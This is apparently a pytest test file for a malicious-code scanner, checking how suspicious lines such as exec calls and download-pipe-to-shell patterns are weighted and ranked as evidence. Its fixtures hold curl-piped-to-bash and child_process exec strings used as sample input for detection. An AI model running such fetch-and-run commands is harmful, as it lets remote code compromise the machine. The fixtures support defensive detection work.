"""Places in the code that a person should see first."""

import pytest

from features.code.analysed_file import AnalysedFile
from features.code.contract import CodeLocation, FileAnalysis
from features.code.evidence import (
    BROWSER_FACTOR,
    KNOWN_FACTOR,
    MAX_EVIDENCE,
    RUNS_FACTOR,
    SECTION_FACTORS,
    Candidate,
    find_candidates,
    indicator_candidates,
    rank_candidates,
    rule_candidates,
)
from features.contract import FileType, Member, Role
from features.text.indicator_scan import scan_text
from features.text.indicators import INDICATORS, POSITIONS

PAYLOAD = b"import os\nos.system('curl -s http://192.0.2.1/a | bash')\n"


def candidate(line: int = 1, indicator: str = "exec_call", weight: float = 2.0, member: str = "a.py") -> Candidate:
    return Candidate(member, line, indicator, Role.REST, f"text of {line}", weight)


def scanned(path: str = "a.py", section: str = "rest", *, known: bool = False) -> AnalysedFile:
    member = Member(path, len(PAYLOAD), FileType.TEXT, Role.REST, data=PAYLOAD, head=PAYLOAD)
    return AnalysedFile(member, section, b"", b"", scan_text(PAYLOAD), known=known)


def top_weight(file: AnalysedFile) -> float:
    return rank_candidates(find_candidates([file]))[0].weight


def browser_file(code: bytes, path: str = "web/app.js", section: str = "text") -> AnalysedFile:
    member = Member(path, len(code), FileType.TEXT, Role.REST, data=code, head=code)
    return AnalysedFile(member, section, b"", b"", scan_text(code))


SHELL_WORDS = b"var help='curl https://a.example/x | sh';"


def test_command_lines_in_javascript_of_a_browser_are_only_words() -> None:
    beyond = browser_file(SHELL_WORDS + b"\n" * 40 + b"require('child_process').exec(help)")
    alone = [c.weight for c in find_candidates([browser_file(SHELL_WORDS)]) if c.indicator == "download_pipe_shell"]
    started = [c.weight for c in find_candidates([beyond]) if c.indicator == "download_pipe_shell"]
    script = [
        c.weight for c in find_candidates([browser_file(SHELL_WORDS, "a.sh")]) if c.indicator == "download_pipe_shell"
    ]
    assert alone == [started[0] * BROWSER_FACTOR] == [script[0] * BROWSER_FACTOR]


def test_a_line_keeps_its_heaviest_candidate_and_gains_a_quarter_of_the_others() -> None:
    (evidence,) = rank_candidates([candidate(weight=4.0), candidate(indicator="eval_call", weight=2.0)])
    assert (evidence.indicator, evidence.weight) == ("exec_call", 4.5)


def test_the_same_indicator_twice_in_a_line_gains_nothing() -> None:
    assert [e.weight for e in rank_candidates([candidate(weight=4.0), candidate(weight=3.0)])] == [4.0]


def test_a_line_gains_no_more_than_its_heaviest_weight() -> None:
    others = [candidate(indicator=f"other_{number}", weight=4.0) for number in range(20)]
    assert rank_candidates([candidate(weight=4.0), *others])[0].weight == 8.0


def test_a_line_that_runs_by_itself_weighs_more() -> None:
    (evidence,) = rank_candidates([candidate(weight=4.0), candidate(indicator="install_time_process", weight=0.0)])
    assert evidence.weight == 4.0 * RUNS_FACTOR


def test_equal_weights_are_ordered_by_name_whatever_their_order() -> None:
    both = [candidate(indicator="b"), candidate(indicator="a")]
    assert rank_candidates(both) == rank_candidates(both[::-1])
    assert rank_candidates(both)[0].indicator == "a"


def test_lines_without_weight_are_no_evidence_and_the_number_is_bounded() -> None:
    assert rank_candidates([candidate(weight=0.0)]) == ()
    many = [candidate(line, indicator=f"i{line}") for line in range(2 * MAX_EVIDENCE)]
    assert len(rank_candidates(many)) == MAX_EVIDENCE


def test_weights_are_rounded_to_thousandths() -> None:
    assert rank_candidates([candidate(weight=1.23456)])[0].weight == 1.235


def test_an_indicator_weighs_more_near_others_when_it_runs_early_and_outside_tests() -> None:
    place = scan_text(PAYLOAD).places[0]
    weight = INDICATORS[place.indicator].weight

    def weigh(near: int = 1, path: str = "a.py", role: Role = Role.REST) -> float:
        (found,) = indicator_candidates(path, role, 1.0, [place._replace(near=near)])
        return found.weight

    assert weigh() == weight
    assert weigh(near=3) == pytest.approx(weight * 1.24)
    assert weigh(near=7) == weigh(near=70)
    assert weigh(role=Role.INSTALL) > weigh(role=Role.IMPORT) > weigh()
    assert weigh(path="tests/a.py") == weight / 2


def test_a_rule_weighs_more_in_a_file_of_many_categories() -> None:
    location = CodeLocation(3, "hidden_name", "x", 5.0)
    for categories, expected in ((0, 5.0), (1, 5.0), (2, 5.3), (9, 7.4), (99, 7.4)):
        (found,) = rule_candidates("a.py", Role.REST, 1.0, categories, [location])
        assert found.line == 3
        assert found.weight == pytest.approx(expected)


def test_known_code_and_prose_weigh_less_and_scripts_do_not() -> None:
    plain = top_weight(scanned())
    assert top_weight(scanned(known=True)) == pytest.approx(KNOWN_FACTOR * plain, abs=0.001)
    for section in ("text", "prose"):
        assert top_weight(scanned("a", section)) == pytest.approx(SECTION_FACTORS[section] * plain, abs=0.001)
    assert top_weight(scanned("a.sh", "text")) == plain


def test_a_file_that_imports_lead_to_weighs_more() -> None:
    file = scanned()
    plain = top_weight(file)
    file.evidence_factor = 1.5
    assert top_weight(file) == pytest.approx(1.5 * plain, abs=0.001)


def test_matches_of_rules_join_hits_of_indicators() -> None:
    file = scanned()
    file.analysis = FileAnalysis(True, locations=(CodeLocation(9, "hidden_name", "x", 5.0),))
    assert "hidden_name" in {evidence.indicator for evidence in rank_candidates(find_candidates([file]))}
    assert POSITIONS.keys() >= {evidence.indicator for evidence in rank_candidates(find_candidates([scanned()]))}
